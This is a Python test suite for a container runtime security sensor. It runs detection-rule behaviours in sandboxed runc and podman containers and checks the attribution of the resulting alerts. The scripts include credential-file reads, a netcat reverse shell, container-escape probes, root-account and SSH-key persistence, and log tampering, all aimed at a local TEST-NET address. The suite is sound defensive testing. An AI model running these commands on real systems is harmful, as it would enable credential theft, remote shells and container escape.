"""Every rule family of Stockade's pack, performed for real: inside a runc container (busybox bundle),
inside a podman container (an image made with `podman import`) and on the host, with the native
sensor running (eBPF where the kernel allows it, the fallback sensors otherwise).

Each behaviour must raise its rule's alert with the right attribution: in a container, that
container's id and image and the process's real ancestry (the script's shell below the runtime); on
the host, container.id=host. On the host the pack is extended to host processes
(rules/extras/hosts.yaml, `engine.pack_scope: hosts_and_containers`), and the behaviour runs as host
processes chrooted into a copy of the busybox tree in private namespaces, so nothing on the host
changes (HostSandbox in conftest.py).

Every behaviour is performed with a busy loop on every core (its container is made before): users'
nodes are busy, the sensor's reader threads wait for a core, short-lived processes exit before /proc
is read, and the attribution and process facts must hold all the same (a fact the sensor could not
get is unknown, never another process's or the host's). A quiet machine asks less of the sensor
than this, so the families run once, loaded.
The families of each runtime are performed as one batch, each in a container of its own, so the
waits for their alerts overlap (:class:`Batch`).

Commands are named by absolute path (/bin/id, not id): busybox's shell runs its own applets without
an exec otherwise, which no sensor can see as a process. Every script ends with `exit 0` so its
last command is a child of the shell (busybox's shell would exec a sole last command in place).
"""

from __future__ import annotations

import time
from collections.abc import Callable, Iterator
from concurrent.futures import Future, ThreadPoolExecutor
from dataclasses import dataclass, replace
from functools import partial
from typing import Any

import pytest

from helpers import BusyCores, busy_cores
from stockade.model.alert import Alert

pytestmark = [pytest.mark.root, pytest.mark.containers, pytest.mark.slow]

IMAGE = "localhost/stockade-test-busybox"
#: how long a behaviour is repeated until its alert arrives (every core is busy: the sensor's
#: threads wait for a core, and the fallback sensors miss processes gone before /proc is read)
WAIT_S = 60.0
#: behaviours performed at once in a batch for the eBPF sensor (each a `<runtime> exec` in its own
#: container is a burst of runtime processes: more at once, on busy cores, can fill the agent's
#: queue); the fallback sensors get one at a time
ACTS_AT_ONCE = 2
#: what the network families do first: an address of their own network namespace that is not
#: loopback (TEST-NET-1), and a listener on it, so connections succeed without leaving the namespace
NET_SETUP = "/bin/ip link set lo up; /bin/ip addr add 192.0.2.10/32 dev lo; "


@pytest.fixture(scope="module", autouse=True)
def busy(module_runc_container: Any, module_podman_container: Any) -> Iterator[BusyCores]:  # noqa: ARG001
    """One busy loop per core (at the sensor's own priority) for the whole module, paused only while
    a batch's containers are made. It needs the module's container factories only so that it ends
    before they remove their containers (module fixtures end in the reverse of their order): the
    making and the clean-up of some hundred containers are not under test, and took half as long
    again (making) or twice as long (clean-up) on busy cores."""
    with busy_cores() as loops:
        yield loops


@dataclass(frozen=True)
class Family:
    rule: str
    script: str
    #: the acting process's name, and whether it is the script's shell itself (else its child)
    proc: str
    by_shell: bool = False
    #: needs a non-loopback address in its own network namespace (NET_ADMIN in the container)
    net: bool = False
    #: the behaviour means something on the host too (drift needs a container's writable layer)
    on_host: bool = True
    #: /dev/shm without noexec (runtimes mount it noexec; a memory-backed emptyDir there is not)
    shm_exec: bool = False
    #: why the fallback sensors cannot see it (None: they must)
    fallback_blind: str | None = None
    #: the acting process's proc.args ("" none; None: not checked); the script's shell's are
    #: "-c <script>"
    args: str | None = ""
    #: its proc.exepath, in the container's (or the sandbox's) own view
    exepath: str | None = "/bin/busybox"
    #: the rule the fallback sensors raise instead (they cannot see the syscall the rule reads)
    fallback_rule: str | None = None
    #: other (proc.name, proc.args) that may act: an unordered sequence completes on whichever of
    #: its steps comes last (a repeat of the behaviour can complete one begun before)
    also: tuple[tuple[str, str], ...] = ()

    def acting(self) -> dict[str, str | None]:
        """The acting process's possible names, each with its arguments."""
        return {self.proc: self.args, **dict(self.also)}


CONNTRACK_NETNS = "conntrack follows the host's network namespace, not a container's own"


def _listen(port: int) -> str:
    # a one-shot listener that answers (as an HTTP server would) and exits, in the background
    return (
        f"(printf 'HTTP/1.0 200 OK\\r\\n\\r\\nok' | /bin/nc -l -p {port} >/dev/null 2>&1 &); /bin/sleep 0.3; "
    )


FAMILIES: dict[str, Family] = {
    # -- credential access
    "password database read": Family(
        "Password Database Read in Container",
        "echo 'root:*:19000:0:99999:7:::' > /etc/shadow; /bin/cat /etc/shadow >/dev/null; exit 0",
        "cat",
        args="/etc/shadow",
    ),
    "ssh private key read": Family(
        "SSH Private Key Read in Container",
        "mkdir -p /root/.ssh; echo key > /root/.ssh/id_ed25519; /bin/cat /root/.ssh/id_ed25519 >/dev/null; exit 0",
        "cat",
        args="/root/.ssh/id_ed25519",
    ),
    "cloud credentials read": Family(
        "Cloud Credentials Read in Container",
        "mkdir -p /root/.aws; echo '[default]' > /root/.aws/credentials;"
        " /bin/cat /root/.aws/credentials >/dev/null; exit 0",
        "cat",
        args="/root/.aws/credentials",
    ),
    "service account token read": Family(
        "Service Account Token Read by Tool in Container",
        "d=/var/run/secrets/kubernetes.io/serviceaccount; mkdir -p $d; echo jwt > $d/token;"
        " /bin/cat $d/token >/dev/null; exit 0",
        "cat",
        args="/var/run/secrets/kubernetes.io/serviceaccount/token",
    ),
    # -- writes below binary directories and /etc
    "write below a binary directory": Family(
        "Write Below Binary Directory in Container",
        "mkdir -p /usr/local/bin; /bin/cp /bin/busybox /usr/local/bin/stk-tool; exit 0",
        "cp",
        args="/bin/busybox /usr/local/bin/stk-tool",
    ),
    "write below /etc": Family(
        "Write Below Etc in Container", "echo x > /etc/stockade-test; exit 0", "sh", by_shell=True
    ),
    # -- software at runtime and drift
    "package manager": Family(
        "Package Manager Run in Container",
        "/bin/dpkg -i /tmp/stk-none.deb 2>/dev/null; exit 0",
        "dpkg",
        args="-i /tmp/stk-none.deb",
    ),
    "drift": Family(
        "Binary Not in Image Executed in Container",
        "/bin/cp /bin/busybox /tmp/bb && /tmp/bb true; exit 0",
        "bb",
        on_host=False,
        args="true",
        exepath="/tmp/bb",
    ),
    # -- crypto mining
    "crypto miner": Family(
        "Crypto Miner Run in Container",
        "/bin/ln -sf /bin/busybox /tmp/xmrig; /tmp/xmrig -o stratum+tcp://192.0.2.10:3333 2>/dev/null; exit 0",
        "xmrig",
        args="-o stratum+tcp://192.0.2.10:3333",
    ),
    "stratum connection": Family(
        "Mining Pool Connection from Container",
        NET_SETUP + _listen(3333) + "/bin/nc 192.0.2.10 3333 </dev/null >/dev/null 2>&1; exit 0",
        "nc",
        net=True,
        fallback_blind=CONNTRACK_NETNS,
        args="192.0.2.10 3333",
    ),
    # -- reverse shells and scanners
    "reverse shell": Family(
        "Reverse Shell Command in Container",
        "/bin/nc -w 1 192.0.2.10 4444 -e /bin/sh 2>/dev/null; exit 0",
        "nc",
        args="-w 1 192.0.2.10 4444 -e /bin/sh",
    ),
    "network scanner": Family(
        "Network Scanner Run in Container",
        "/bin/ln -sf /bin/busybox /tmp/nmap; /tmp/nmap -sS 192.0.2.0/24 2>/dev/null; exit 0",
        "nmap",
        args="-sS 192.0.2.0/24",
    ),
    "shell, download, connect": Family(
        "Shell, Download, Connect in Container",
        # the foothold is an interactive shell (a `sh -c` the runtime runs is a health check's)
        NET_SETUP
        + _listen(8080)
        + "/bin/sh -i -c '/bin/wget -q -O /dev/null http://192.0.2.10:8080/ 2>/dev/null'; exit 0",
        "wget",
        net=True,
        fallback_blind=CONNTRACK_NETNS,
        args="-q -O /dev/null http://192.0.2.10:8080/",
    ),
    # -- escapes
    "cgroup release_agent": Family(
        "Cgroup Release Agent Write in Container",
        "mkdir -p /tmp/cg; echo /tmp/payload > /tmp/cg/release_agent; exit 0",
        "sh",
        by_shell=True,
    ),
    "/proc/1/root": Family(
        "Host Root Access via Proc in Container",
        "/bin/cat /proc/1/root/etc/hostname >/dev/null 2>&1; exit 0",
        "cat",
        args="/proc/1/root/etc/hostname",
    ),
    "runtime socket": Family(
        "Container Runtime Socket Access in Container",
        "/bin/ls -l /var/run/docker.sock 2>/dev/null; exit 0",
        "ls",
        args="-l /var/run/docker.sock",
    ),
    "nsenter": Family(
        "Namespace Tool Run in Container", "/bin/nsenter --help 2>/dev/null; exit 0", "nsenter", args="--help"
    ),
    "mount": Family(
        "Mount Attempt in Container",
        "/bin/mount -t tmpfs none /mnt 2>/dev/null; exit 0",
        "mount",
        args="-t tmpfs none /mnt",
    ),
    "kernel module": Family(
        "Kernel Module Loaded from Container",
        ": > /tmp/stk.ko; /bin/insmod /tmp/stk.ko 2>/dev/null; exit 0",
        "insmod",
        args="/tmp/stk.ko",
    ),
    # -- defense evasion
    "log tampering": Family(
        "Log File Tampering in Container",
        "mkdir -p /var/log; echo entry >> /var/log/app.log; /bin/rm -f /var/log/app.log; exit 0",
        "rm",
        args="-f /var/log/app.log",
    ),
    "history cleared": Family(
        "Shell History Cleared in Container",
        "echo ls >> /root/.ash_history; /bin/ln -sf /dev/null /root/.ash_history; exit 0",
        "ln",
        args="-sf /dev/null /root/.ash_history",
    ),
    "ptrace": Family(
        "Ptrace Attach in Container",
        "/bin/stk-attack ptrace; exit 0",
        "stk-attack",
        fallback_blind="no ptrace events without eBPF (the sensor reports ptrace as missing)",
        args="ptrace",
        exepath="/bin/stk-attack",
    ),
    "fileless (memfd)": Family(
        "Fileless Execution in Container",
        "/bin/stk-attack memfd-exec /bin/busybox true; exit 0",
        # the kernel names a program run from a file descriptor after the descriptor
        "",
        args=None,
        exepath=None,
    ),
    "execution from /dev/shm": Family(
        "Execution from Shared Memory in Container",
        "/bin/cp /bin/busybox /dev/shm/stk && /dev/shm/stk true; exit 0",
        "stk",
        shm_exec=True,
        args="true",
        exepath="/dev/shm/stk",
    ),
    # -- privilege escalation
    "setuid bit": Family(
        "Setuid Bit Set in Container",
        "touch /tmp/s; /bin/chmod u+s /tmp/s; exit 0",
        "chmod",
        args="u+s /tmp/s",
        fallback_rule="Setuid Command Run in Container",
    ),
    "file capabilities": Family(
        "File Capabilities Set in Container",
        "/bin/ln -sf /bin/busybox /tmp/setcap; /tmp/setcap cap_setuid+ep /tmp/s 2>/dev/null; exit 0",
        "setcap",
        args="cap_setuid+ep /tmp/s",
    ),
    # -- persistence and accounts
    "cron": Family(
        "Cron Job Modified in Container",
        "mkdir -p /etc/cron.d; echo '* * * * * root true' > /etc/cron.d/stk; exit 0",
        "sh",
        by_shell=True,
    ),
    "systemd unit": Family(
        "Systemd Unit Modified in Container",
        "mkdir -p /etc/systemd/system; echo '[Unit]' > /etc/systemd/system/stk.service; exit 0",
        "sh",
        by_shell=True,
    ),
    "new user": Family(
        "User Account Created in Container",
        "/bin/ln -sf /bin/busybox /tmp/useradd; /tmp/useradd -m stk 2>/dev/null; exit 0",
        "useradd",
        args="-m stk",
    ),
    "account database": Family(
        "Account Database Modified in Container",
        "echo 'stk:x:0:0::/root:/bin/sh' >> /etc/passwd; exit 0",
        "sh",
        by_shell=True,
    ),
    "authorized keys": Family(
        "SSH Authorized Keys Modified in Container",
        "mkdir -p /root/.ssh; echo 'ssh-ed25519 AAAA stk' >> /root/.ssh/authorized_keys; exit 0",
        "sh",
        by_shell=True,
    ),
    # -- discovery
    "discovery burst": Family(
        "Discovery Burst in Container",
        "/bin/id; /bin/uname -a; /bin/ip addr; exit 0",
        "ip",
        args="addr",
        also=(("id", ""), ("uname", "-a")),
    ),
}


def _check_process(fam: Family, f: dict[str, Any], shell_parent: tuple[str, ...]) -> None:
    """The acting process and its ancestry: the script's shell below `shell_parent`."""
    if fam.proc:
        assert f["proc.name"] in fam.acting(), f
    if fam.by_shell:
        assert str(f["proc.pname"]).startswith(shell_parent), f
    else:
        assert f["proc.pname"] == "sh", f
        assert str(f["proc.aname[2]"]).startswith(shell_parent), f


def _check_facts(fam: Family, f: dict[str, Any], *, may_be_unknown: bool = False) -> None:
    """The process's facts as libsinsp defines them, in the process's own view: its whole command
    line (proc.cmdline = proc.name + proc.args), its executable and its working directory inside the
    container (or the sandbox's chroot), never the host's path to them nor another program's.
    `may_be_unknown`: a fact the sensor could not get may be missing (the fallback sensors read
    /proc after the fact), but what is there must be right."""
    args = "-c " + fam.script if fam.by_shell else fam.acting().get(f.get("proc.name") or "", fam.args)
    expected: dict[str, Any] = {}
    if args is not None:
        expected["proc.args"] = args
        expected["proc.cmdline"] = f"{f['proc.name']} {args}" if args else f["proc.name"]
    if fam.exepath is not None:
        expected["proc.exepath"] = fam.exepath
    # every exec'd script runs in the root directory (runc's process.cwd, podman's default workdir,
    # the sandbox's chroot); proc.cwd ends with "/" as libsinsp writes it
    expected["proc.cwd"] = "/"
    for k, want in expected.items():
        if may_be_unknown and f.get(k) is None:
            continue
        assert f.get(k) == want, (k, f.get(k), want, dict(f))


def _never_the_host(node: Any, fam: Family, mark: int) -> None:
    """No alert of the behaviour was given to the host: a process below the container's runtime
    (a runtime's exec joins the container before its program runs) is the container's or unknown."""
    for a in node.alerts[mark:]:
        f = a.output_fields
        if a.rule != fam.rule or f.get("container.id") != "host":
            continue
        if fam.proc and f.get("proc.name") not in fam.acting():
            continue  # the runtime's own work on the host (podman's cleanup below conmon, ...)
        ancestry = [f.get("proc.pname"), *(f.get(f"proc.aname[{i}]") for i in (2, 3, 4))]
        if any(str(x).startswith(RUNTIME_PARENTS) for x in ancestry if x):
            raise AssertionError(f"a container's behaviour was given to the host: {sorted(f.items())}")


def _matches(fam: Family, where: str, a: Alert) -> bool:
    """The family's alert for its acting process in `where` (the shell's command line names the
    behaviour too, so some rules also fire on the shell: right, but not the alert under test)."""
    f = a.output_fields
    if a.rule != fam.rule or f.get("container.id") != where:
        return False
    return f.get("proc.name") in fam.acting() if fam.proc else f.get("proc.name") != "sh"


def _found(node: Any, fam: Family, where: str, mark: int, again: Callable[[], object]) -> dict[str, Any]:
    a = node.wait_for(lambda a: _matches(fam, where, a), timeout=WAIT_S, since=mark, again=again)
    fields: dict[str, Any] = a.output_fields
    return fields


#: what starts an exec'd process in a container: runc (its stages are named runc:[N:...] by the
#: kernel) for `runc exec` and for `podman exec` (conmon drives runc)
RUNTIME_PARENTS = ("runc", "conmon", "exe")


@dataclass
class Trial:
    """One family performed in a container of its own: where its alert must come from, how to
    perform it (again), and the alert's fields once it has arrived."""

    fam: Family
    where: str
    act: Callable[[], object]
    fields: dict[str, Any] | None = None
    #: attempts so far, and why the last one could not be performed (an exec that timed out, ...)
    attempts: int = 0
    error: str | None = None


@dataclass
class Batch:
    """Families performed on one node, each in its own container (alerts told apart by container
    id): the waits for their alerts overlap instead of adding up."""

    node: Any
    trials: dict[str, Trial]
    mark: int = 0

    def perform(self, retry_s: float, at_once: int) -> None:
        """Perform every behaviour, `at_once` at a time, each again at most every `retry_s` while
        its alert has not arrived (on a busy machine a burst elsewhere can make the kernel drop a
        message, and the fallback sensors miss processes gone before /proc is read).

        Each family gets WAIT_S of the batch's time, shared fairly: while m families wait with n
        performed at once, each uses n/m of every second. So a family is given no less than when
        the families ran one after another, and the batch never takes longer than they did."""
        self.mark = self.node.mark()
        waiting = dict(self.trials)
        last: dict[str, float] = {}
        running: dict[str, Future[object]] = {}
        used: dict[str, float] = {}
        seen, tick = self.mark, time.monotonic()
        with ThreadPoolExecutor(max_workers=at_once) as pool:
            while waiting:
                time.sleep(0.1)
                seen = self._collect(seen)
                now = time.monotonic()
                share = (now - tick) * at_once / max(len(waiting), at_once)
                tick = now
                self._reap(running)
                for k in list(waiting):
                    if k in last:
                        used[k] = used.get(k, 0.0) + share
                    if self.trials[k].fields is not None or used.get(k, 0.0) >= WAIT_S:
                        del waiting[k]
                due = [k for k in waiting if k not in running and now - last.get(k, -retry_s) >= retry_s]
                for k in sorted(due, key=lambda k: last.get(k, -retry_s))[: at_once - len(running)]:
                    last[k] = now
                    self.trials[k].attempts += 1
                    running[k] = pool.submit(self.trials[k].act)

    def _reap(self, running: dict[str, Future[object]]) -> None:
        """Forget the attempts that finished, keeping why the last one failed if it did."""
        for k in [k for k, f in running.items() if f.done()]:
            e = running.pop(k).exception()
            self.trials[k].error = None if e is None else f"{type(e).__name__}: {e}"

    def _collect(self, seen: int) -> int:
        alerts = self.node.alerts
        end = len(alerts)
        for a in alerts[seen:end]:
            for t in self.trials.values():
                if t.fields is None and _matches(t.fam, t.where, a):
                    t.fields = a.output_fields
        return end

    def fields(self, family: str) -> dict[str, Any]:
        """The family's alert's fields; fails, saying what arrived, if it never did. Also fails if
        the behaviour was given to the host."""
        t = self.trials[family]
        if t.fields is None:
            alerts = self.node.alerts[self.mark :]
            mine = [
                (a.output_fields.get("container.id"), a.output_fields.get("proc.name"))
                for a in alerts
                if a.rule == t.fam.rule
            ]
            raise AssertionError(
                f"no {t.fam.rule!r} alert for {t.fam.acting()} in {t.where} after {t.attempts} attempts"
                f" (last error: {t.error}); that rule's alerts (container, process): {sorted(set(map(str, mine)))}"
            )
        _never_the_host(self.node, t.fam, self.mark)
        return t.fields


def _batch(
    node: Any, make: Any, families: list[str], caps: Callable[[Family], list[str]], busy: BusyCores
) -> Batch:
    """A container for each family (made a few at a time, the busy loops paused), to perform it
    with `<runtime> exec`."""
    with busy.paused():
        made = make.many([{"caps": caps(FAMILIES[k]), "shm_exec": FAMILIES[k].shm_exec} for k in families])
    trials = {
        k: Trial(FAMILIES[k], c.id[:12], partial(c.exec, ["/bin/sh", "-c", FAMILIES[k].script]))
        for k, c in zip(families, made, strict=True)
    }
    return Batch(node, trials)


@pytest.fixture(scope="module")
def runc_batch(node: Any, module_runc_container: Any, busy: BusyCores) -> Batch:
    """Every family in a runc container of its own, performed at once."""
    b = _batch(
        node, module_runc_container, sorted(FAMILIES), lambda f: ["CAP_NET_ADMIN"] if f.net else [], busy
    )
    b.perform(retry_s=10.0, at_once=ACTS_AT_ONCE)
    return b


@pytest.fixture(scope="module")
def podman_batch(node: Any, module_podman_container: Any, busy: BusyCores) -> Batch:
    """Every family in a podman container of its own, performed at once."""
    b = _batch(
        node, module_podman_container, sorted(FAMILIES), lambda f: ["NET_ADMIN"] if f.net else [], busy
    )
    b.perform(retry_s=10.0, at_once=ACTS_AT_ONCE)
    return b


def _fallback_family(name: str) -> Family:
    """The family as the fallback sensors see it (the rule they raise instead, if another)."""
    fam = FAMILIES[name]
    return replace(fam, rule=fam.fallback_rule) if fam.fallback_rule else fam


@pytest.fixture(scope="module")
def fallback_batch(fallback_node: Any, module_podman_container: Any, busy: BusyCores) -> Batch:
    """Every family the fallback sensors can see, in a podman container of its own, performed at once."""
    seen = sorted(k for k, f in FAMILIES.items() if not f.fallback_blind)
    b = _batch(fallback_node, module_podman_container, seen, lambda f: ["NET_ADMIN"] if f.net else [], busy)
    for k, t in b.trials.items():
        t.fam = _fallback_family(k)
    time.sleep(0.3)  # a container's root is watched from its first event on
    # the proc connector names only the pid: a process gone before its /proc entry was read has no
    # command line (a known race of this sensor, counted in its exec_unread): repeat it sooner, and
    # one at a time (each exec races the sensor's reader for /proc: more at once, more lost)
    b.perform(retry_s=2.0, at_once=1)
    return b


@pytest.mark.parametrize("family", sorted(FAMILIES))
def test_in_a_runc_container(runc_batch: Batch, family: str) -> None:
    fam = FAMILIES[family]
    f = runc_batch.fields(family)
    _check_process(fam, f, RUNTIME_PARENTS)
    _check_facts(fam, f)
    # runc has no image: the bundle's root filesystem is the container's
    assert f.get("container.image.repository") in (None, "")


@pytest.mark.parametrize("family", sorted(FAMILIES))
def test_in_a_podman_container(podman_batch: Batch, family: str) -> None:
    fam = FAMILIES[family]
    f = podman_batch.fields(family)
    _check_process(fam, f, RUNTIME_PARENTS)
    _check_facts(fam, f)
    assert f.get("container.image.repository") == IMAGE, podman_batch.node.diagnosis()
    assert f.get("container.image.tag") == "latest"
    if "user.name" in f:  # the image's own /etc/passwd names uid 0
        assert f["user.uid"] == 0 and f["user.name"] == "root"


@pytest.mark.parametrize("family", sorted(k for k, f in FAMILIES.items() if f.on_host))
def test_on_the_host(node: Any, host_sandbox: Any, family: str) -> None:
    """One family at a time: on the host every family's alerts share container.id=host."""
    fam = FAMILIES[family]
    mark = node.mark()

    def act() -> None:
        host_sandbox.run(fam.script, net=fam.net)

    act()
    f = _found(node, fam, "host", mark, act)
    # the sandbox's shell is started by unshare (which forks, chroots, mounts /proc and execs it)
    _check_process(fam, f, ("unshare",))
    _check_facts(fam, f)
    assert f.get("container.image.repository") in (None, "")


def test_the_fallback_sensors_say_what_they_cannot_see(fallback_node: Any) -> None:
    """The fallback sensors say they cannot see ptrace. The families they are blind to
    (fallback_blind: ptrace, a connection in a container's own netns, which the host's conntrack
    does not follow) are not run with them."""
    assert "ptrace" in fallback_node.sensor.plan.missing_evttypes


@pytest.mark.parametrize("family", sorted(k for k, f in FAMILIES.items() if not f.fallback_blind))
def test_in_a_podman_container_with_the_fallback_sensors(fallback_batch: Batch, family: str) -> None:
    """Where eBPF cannot run: exec from the proc connector, files from fanotify on the container's
    overlay root (create/delete/rename from its upper layer), connections from conntrack."""
    f = fallback_batch.fields(family)
    assert f.get("container.image.repository") == IMAGE, fallback_batch.node.diagnosis()
    # facts read from /proc after the fact: a process gone before may have some unknown, never wrong
    _check_facts(_fallback_family(family), f, may_be_unknown=True)
    # ancestry is not asserted here: fanotify's and the proc connector's events reach the process
    # table in no guaranteed order, so a file event can come before its process's fork and exec
    # (seen once in eight runs: a cat whose parent read as runc); the eBPF tests assert it


def _in_container(node: Any, c: Any, fam: Family) -> dict[str, Any]:
    """Perform the family's behaviour with `<runtime> exec` in container `c`; its alert's fields."""
    mark = node.mark()

    def act() -> None:
        c.exec(["/bin/sh", "-c", fam.script])

    act()
    found = _found(node, fam, c.id[:12], mark, act)
    _never_the_host(node, fam, mark)
    return found


def test_falco_stdin_stdout_redirected_to_a_socket_in_a_podman_container(
    falco_node: Any, podman_container: Any
) -> None:
    """Falco's stable rule "Redirect STDOUT/STDIN to Network Connection in Container": netcat's -e
    moves the connected socket onto the shell's stdin, stdout and stderr with dup2. The sensor must
    say that the descriptor dup2 copies is an IPv4 socket, and to where."""
    fam = Family(
        "Redirect STDOUT/STDIN to Network Connection in Container",
        NET_SETUP
        + "(echo exit | /bin/nc -l -p 4444 >/dev/null 2>&1 &); /bin/sleep 0.3;"
        + " /bin/nc 192.0.2.10 4444 -e /bin/sh; exit 0",
        "nc",
        net=True,
    )
    f = _in_container(falco_node, podman_container(caps=["NET_ADMIN"]), fam)
    assert f["fd.type"] == "ipv4"
    assert f["fd.sip"] == "192.0.2.10" and f["fd.rport"] == 4444
    assert f["proc.pname"] == "sh"
    assert f["container.image.repository"] == IMAGE


#: a container whose own command (not an exec) reads a credential from /tmp, again every second
ENTRYPOINT = (
    "echo 'root:*:19000:0:99999:7:::' > /etc/shadow; cd /tmp;"
    " while :; do /bin/cat /etc/shadow >/dev/null; /bin/sleep 1; done"
)


def _entrypoint_facts(node: Any, cid: str) -> dict[str, Any]:
    fam = FAMILIES["password database read"]
    a = node.wait_for(
        lambda a: (
            a.rule == fam.rule
            and a.output_fields.get("container.id") == cid
            and a.output_fields.get("proc.name") == "cat"
        ),
        timeout=WAIT_S,
    )
    f: dict[str, Any] = a.output_fields
    assert f["proc.pname"] == "sh", f  # the container's own shell, not a runtime's exec
    return f


def _assert_entrypoint_facts(f: dict[str, Any], *, may_be_unknown: bool = False) -> None:
    for k, want in {
        "proc.args": "/etc/shadow",
        "proc.cmdline": "cat /etc/shadow",
        "proc.exepath": "/bin/busybox",
        "proc.cwd": "/tmp/",
    }.items():
        if may_be_unknown and f.get(k) is None:
            continue
        assert f.get(k) == want, (k, f.get(k), dict(f))


def test_a_runc_container_s_own_process(node: Any, runc_container: Any) -> None:
    """Processes the container starts itself (its command's children), not `runc exec`."""
    c = runc_container(["/bin/sh", "-c", ENTRYPOINT])
    _assert_entrypoint_facts(_entrypoint_facts(node, c.id[:12]))


def test_a_podman_container_s_own_process(node: Any, podman_container: Any) -> None:
    c = podman_container(["/bin/sh", "-c", ENTRYPOINT])
    f = _entrypoint_facts(node, c.id[:12])
    _assert_entrypoint_facts(f)
    assert f["container.image.repository"] == IMAGE


def test_a_podman_container_s_own_process_with_the_fallback_sensors(
    fallback_node: Any, podman_container: Any
) -> None:
    c = podman_container(["/bin/sh", "-c", ENTRYPOINT])
    f = _entrypoint_facts(fallback_node, c.id[:12])
    _assert_entrypoint_facts(f, may_be_unknown=True)
    assert f["container.image.repository"] == IMAGE
